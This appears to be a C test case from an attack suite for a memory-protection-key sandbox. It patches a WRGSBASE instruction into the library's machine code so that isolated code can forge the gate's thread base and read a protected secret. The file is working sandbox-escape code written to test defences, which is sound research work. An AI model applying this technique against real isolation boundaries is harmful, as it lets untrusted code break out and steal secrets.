/* Tries: to set the base by which the gate knows its thread, by WRGSBASE, and then to call back
 * From: PKU Pitfalls (Connor et al., USENIX Security 2020); Garmr (Voulimeneas et al.)
 * Observed: The secret in what the call gave back.
 * Needs: machine-code, keys, load */
#include "attacks/attack.h"

#ifdef ATTACK_FOREIGN
FOREIGN(run)
{
    static uint64_t forged[8192] __attribute__((aligned(4096)));
    __asm__ volatile("mov $0x4b524f14, %%r10d" : : "a"(forged) : "r10", "memory");
    take(at, at->secret_global);
    return 0;
}
#endif

#ifdef ATTACK_HOST
/* A copy of the library in which there is a WRGSBASE. */
HOST(run)
{
    static const uint8_t marker[] = {0x41, 0xba, 0x14, 0x4f, 0x52, 0x4b},
                         bytes[] = {0x90, 0xf3, 0x48, 0x0f, 0xae, 0xd8};
    size_t size = 0;
    unsigned char *file = host_read_library(host, &size);
    if (host->places[PLACE_gate_start])
        for (size_t i = 0; i + 64 < size; i++)
            if (!memcmp(file + i, marker, sizeof(marker)))
                memcpy(file + i, bytes, sizeof(bytes));
    enum og_error error = host_open_changed(host, file, size);
    free(file);
    return error ? error : host_call_other(host, 0);
}
#endif
